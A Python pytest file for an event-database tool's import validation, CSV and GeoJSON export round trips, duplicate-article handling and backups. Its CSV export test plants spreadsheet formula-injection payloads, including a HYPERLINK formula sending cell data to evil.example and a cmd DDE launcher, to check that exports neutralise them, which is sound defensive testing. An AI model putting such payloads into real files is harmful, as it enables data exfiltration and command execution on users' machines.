"""Imports that would overwrite or mislead, inputs that used to end in a traceback, the CSV
export's safety and round trip, the same article saved twice, and backups.

Command-line checks call ``cli.main`` in-process (exit status and the stderr line are what
an operator sees); one check per family also runs the real subprocess.
"""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path

import pytest

from dashboard.events import (
    MAX_ARTICLE_CHARS,
    DuplicateArticleError,
    EventFileError,
    EventStore,
    ImportConflictError,
    StoreError,
    events_to_csv,
    events_to_geojson,
    read_events_file,
)
from dashboard.events.cli import main
from tests.helpers import set_schema_version

ARTICLE = Path(__file__).resolve().parent / "data" / "articles" / "svalbard-cable-2022.txt"


@pytest.fixture
def store(store_url) -> EventStore:
    """The store at $ATLAS_DB (the one the command line uses), seeded; on each backend."""
    return EventStore(store_url)


def cli(capsys, *args: str) -> tuple[int, str]:
    """Run the command line in-process; return (exit status, stderr)."""
    status = main(list(args))
    return status, capsys.readouterr().err


def feature(event_id: str = "ev-file-1", lon: float = 18.9, lat: float = 69.6, **properties) -> dict:
    props = {
        "event_id": event_id,
        "event_date": "2024-03-01",
        "summary": "NOR: opened a port",
        "category": "shipping",
        "place": "Tromsø",
        "source_title": "A title",
        "source_url": "https://example.org/a",
    } | properties
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]}, "properties": props}


def write_geojson(path: Path, features: list[dict], **extra) -> Path:
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features} | extra), encoding="utf-8")
    return path


# -- imports -----------------------------------------------------------------------------
def test_import_refuses_to_replace_a_verified_event_unless_asked(store, tmp_path, capsys):
    verified = store.query(verified=True).iloc[0]
    before = store.table_digests()
    changed = feature(verified["event_id"], summary="Rewritten by an import", verified="false")
    path = write_geojson(tmp_path / "over.geojson", [changed, feature("ev-new-1")])
    status, err = cli(capsys, "import", str(path))
    assert status == 2 and "verified event" in err and "--replace-verified" in err and len(err.splitlines()) == 1
    assert store.table_digests() == before  # all or nothing: the new event is not imported either
    status, err = cli(capsys, "import", str(path), "--replace-verified")
    assert status == 0, err
    assert store.get_event(verified["event_id"]).summary == "Rewritten by an import"


def test_reimporting_the_stores_own_export_is_accepted_and_changes_nothing(store, store_url, tmp_path, capsys):
    out = tmp_path / "all.geojson"
    assert cli(capsys, "export", "--output", str(out))[0] == 0
    before = store.table_digests()
    assert cli(capsys, "import", str(out))[0] == 0
    assert store.query()["summary"].tolist() == EventStore(store_url).query()["summary"].tolist()
    assert {k: v for k, v in store.table_digests().items() if k != "events"} == {
        k: v for k, v in before.items() if k != "events"
    }


def test_duplicate_ids_in_one_file_are_refused(store, tmp_path):
    path = write_geojson(tmp_path / "dup.geojson", [feature("ev-same"), feature("ev-same", summary="other")])
    with pytest.raises(EventFileError, match="feature 2: event_id ev-same repeats feature 1"):
        read_events_file(path, path.name)
    csv_text = events_to_csv(store.query())
    lines = csv_text.splitlines()
    with pytest.raises(EventFileError, match="repeats row 1"):
        read_events_file(("\n".join(lines + [lines[1]]) + "\n").encode(), "dup.csv")


@pytest.mark.parametrize(
    ("crs", "coordinates", "message"),
    [
        ("EPSG:3857", [18.9, 69.6], "declares the CRS 'EPSG:3857'"),
        ("urn:ogc:def:crs:EPSG::3413", [18.9, 69.6], "only WGS 84"),
        (None, [2_100_000.0, 11_000_000.0], "outside -180..180"),
        (None, [18.9, 91.0], "outside -180..180, -90..90"),
        (None, ["18.9", 69.6], "two finite numbers"),
    ],
)
def test_projected_or_out_of_range_coordinates_are_refused(tmp_path, crs, coordinates, message):
    extra = {"crs": {"type": "name", "properties": {"name": crs}}} if crs else {}
    lon, lat = coordinates
    path = write_geojson(tmp_path / "p.geojson", [feature(lon=lon, lat=lat)], **extra)
    with pytest.raises(EventFileError, match=message):
        read_events_file(path, path.name)


def test_a_geojson_declaring_wgs84_or_nothing_is_read_as_degrees(tmp_path):
    crs84 = {"crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}}
    for extra in ({}, crs84):
        (event,) = read_events_file(write_geojson(tmp_path / "w.geojson", [feature()], **extra), "w.geojson")
        assert (event.lon, event.lat) == (18.9, 69.6)


# -- inputs that used to end in a traceback ----------------------------------------------------
def test_deeply_nested_json_is_one_line(tmp_path, capsys):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    status, err = cli(capsys, "import", str(path))
    assert status == 2 and "nested too deeply" in err and len(err.splitlines()) == 1


def test_an_overlong_csv_field_is_one_line(store, tmp_path, capsys):
    path = tmp_path / "long.csv"
    path.write_text("event_date,summary,category,place,lat,lon\n2024-01-01," + "x" * 140_000 + ",shipping,X,70,20\n")
    before = store.table_digests()
    status, err = cli(capsys, "import", str(path))
    assert status == 2 and "longer than 131,072 characters" in err and len(err.splitlines()) == 1
    assert store.table_digests() == before


@pytest.mark.parametrize("command", [["import", "EVENTS"], ["export"], ["backup", "OUT"], ["extract", "ART", "--save"]])
def test_atlas_db_that_is_not_a_database_is_one_line(tmp_path, monkeypatch, capsys, command):
    bogus = tmp_path / "notes.sqlite"
    bogus.write_text("these are my notes, not a database\n" * 200)
    monkeypatch.setenv("ATLAS_DB", str(bogus))
    events = write_geojson(tmp_path / "e.geojson", [feature()])
    args = [{"EVENTS": str(events), "OUT": str(tmp_path / "b.sqlite"), "ART": str(ARTICLE)}.get(a, a) for a in command]
    if command[0] == "extract":
        args += ["--published", "2024-01-10"]
    status, err = cli(capsys, *args)
    assert status == 2 and "is not an Arctic Atlas event database" in err and len(err.splitlines()) == 1
    assert bogus.read_text().startswith("these are my notes")


def test_a_store_of_a_newer_schema_is_one_line(store, capsys):
    set_schema_version(store, 99)
    status, err = cli(capsys, "export")
    assert status == 2 and "newer than this code" in err and len(err.splitlines()) == 1


def test_an_article_over_the_limit_is_refused_quickly_with_the_limit_named(tmp_path, capsys):
    path = tmp_path / "huge.txt"
    sentence = "Norway opened a new port in Tromsø on Monday, officials said. "
    path.write_text(sentence * (20_000_000 // len(sentence)))  # about 20 MB, under the 20 MiB file cap
    started = time.perf_counter()
    status, err = cli(capsys, "extract", str(path), "--published", "2024-01-10")
    print(f"refusing a 20 MB article took {time.perf_counter() - started:.2f} s")
    assert status == 2 and f"the limit is {MAX_ARTICLE_CHARS:,}" in err


def test_migrating_a_version_1_store_keeps_its_events_and_finds_duplicates(new_store_url):
    from dashboard.events.schema import MIGRATIONS, SCHEMA_VERSION
    from dashboard.events.store import open_database

    url = new_store_url()
    database = open_database(url)  # a store as version 1 of Arctic Atlas left it, on this backend
    database.prepare()
    with database._transaction() as conn:
        for statement in MIGRATIONS[0]:
            conn.execute(statement)
        conn.execute("INSERT INTO articles (title, url, text, added_at) VALUES ('Old', '', 'Some  old\ntext', 'x')")
        database.dialect.write_version(conn, 1)
    store = EventStore(url)
    assert store.schema_version == SCHEMA_VERSION and store.find_article(text="Some old text") == 1
    assert store.integrity_check() == "ok"


def test_an_unreachable_postgresql_server_is_one_line(monkeypatch, capsys):
    monkeypatch.setenv("ATLAS_DB", "postgresql://atlas:secret@127.0.0.1:1/atlas")  # nothing listens on port 1
    status, err = cli(capsys, "export")
    assert status == 2 and "cannot use the PostgreSQL event database" in err and len(err.splitlines()) == 1
    assert "secret" not in err


# -- CSV export ------------------------------------------------------------------------------
def test_csv_cells_cannot_become_formulas_and_round_trip(store, tmp_path):
    event = store.get_event(store.query().iloc[0]["event_id"])
    hostile = replace(
        event,
        event_id="ev-formula",
        summary='=HYPERLINK("http://evil.example/?"&A1,"click")',
        place="+cmd|' /C calc'!A0",
        evidence="-2+3",
        source=replace(event.source, title="@SUM(1+1)", outlet="'quoted", url="https://example.org/x"),
        verified=False,
    )
    store.import_events([hostile])
    frame = store.query()
    text = events_to_csv(frame)
    row = next(line for line in text.splitlines() if line.startswith("ev-formula"))
    cells = [c.strip('"') for c in row.split(",")]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells if not c.lstrip("-").replace(".", "").isdigit())
    (back,) = [e for e in read_events_file(text.encode(), "x.csv") if e.event_id == "ev-formula"]
    assert back == store.get_event("ev-formula")


def test_nul_and_bare_cr_in_event_text_round_trip_through_csv(store, tmp_path):
    path = write_geojson(
        tmp_path / "ctl.geojson", [feature("ev-ctl", summary="NOR: a\x00b", evidence="Line one\rline two\r\nthree")]
    )
    store.import_events(read_events_file(path, path.name))
    stored = store.get_event("ev-ctl")
    assert stored.summary == "NOR: ab" and stored.evidence == "Line one\nline two\nthree"
    csv_path = tmp_path / "ctl.csv"
    csv_path.write_text(events_to_csv(store.query()), encoding="utf-8")
    (back,) = [e for e in read_events_file(csv_path, csv_path.name) if e.event_id == "ev-ctl"]
    assert back == stored


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_full_export_import_export_is_byte_identical(store, tmp_path, capsys, monkeypatch, fmt, new_store_url):
    first = tmp_path / f"first.{fmt}"
    assert cli(capsys, "export", "--format", fmt, "--output", str(first))[0] == 0
    monkeypatch.setenv("ATLAS_DB", new_store_url())
    EventStore(seed=False)
    assert cli(capsys, "import", str(first))[0] == 0
    second = tmp_path / f"second.{fmt}"
    assert cli(capsys, "export", "--format", fmt, "--output", str(second))[0] == 0
    assert second.read_bytes() == first.read_bytes()
    copy = EventStore()
    assert len(copy) == len(store)
    assert sorted(copy.articles()["url"]) == sorted(store.articles()["url"])


# -- the same article twice --------------------------------------------------------------------
def test_the_same_article_saved_twice_is_refused_or_merged(store):
    event = store.get_event(store.query().iloc[0]["event_id"])
    new = replace(event, event_id="ev-extra", verified=False, summary="NOR: extra")
    text = "Norway opened a port.\n\nIt was Monday."
    article_id, _ = store.add_article_with_events([new], title="T", url="https://example.org/p", text=text)
    before = store.table_digests()
    with pytest.raises(DuplicateArticleError, match=f"article {article_id} \\(same URL\\)"):
        store.add_article_with_events([new], title="T", url="https://example.org/p", text=text)
    with pytest.raises(DuplicateArticleError, match="same text"):
        store.add_article_with_events([new], title="T2", url="", text="Norway opened a port.  It was Monday.")
    assert store.table_digests() == before
    other = replace(new, event_id="ev-extra-2", summary="NOR: second")
    merged_id, ids = store.add_article_with_events([other], url="https://example.org/p", on_duplicate="merge")
    assert merged_id == article_id and ids == ["ev-extra-2"]
    assert (store.articles()["url"] == "https://example.org/p").sum() == 1


def test_cli_extract_save_twice_needs_merge(store, capsys):
    args = ["extract", str(ARTICLE), "--published", "2024-01-10", "--url", "https://example.org/cable", "--save"]
    assert cli(capsys, *args)[0] == 0
    before = store.table_digests()
    status, err = cli(capsys, *args)
    assert status == 2 and "already stored" in err
    assert store.table_digests() == before
    assert cli(capsys, *args, "--merge")[0] == 0
    assert (store.articles()["url"] == "https://example.org/cable").sum() == 1


# -- backups -----------------------------------------------------------------------------------
def test_backup_is_a_consistent_copy_that_restores(isolated_event_db, tmp_path, capsys, monkeypatch):
    store = EventStore(isolated_event_db)  # SQLite's backup API; a PostgreSQL store is backed up with pg_dump
    out = tmp_path / "backups" / "events-backup.sqlite"
    status, err = cli(capsys, "backup", str(out))
    assert status == 0 and "integrity ok" in err
    assert EventStore(out).table_digests() == store.table_digests()
    assert cli(capsys, "backup", str(out))[0] == 2  # never overwrites
    store.delete_event(store.query().iloc[0]["event_id"])
    monkeypatch.setenv("ATLAS_DB", str(out))  # restore = point ATLAS_DB at the copy (or copy it back)
    assert len(EventStore()) == len(store) + 1


def test_store_errors_are_store_errors(tmp_path):
    folder = tmp_path / "a-folder"
    folder.mkdir()
    with pytest.raises(StoreError, match="is a folder"):
        EventStore(folder)
    other = EventStore(tmp_path / "s.sqlite")
    verified = other.get_event(other.query(verified=True).iloc[0]["event_id"])
    with pytest.raises(ImportConflictError, match="1 verified event"):
        other.import_events([replace(verified, summary="changed")])
    assert events_to_geojson(other.query())["features"]
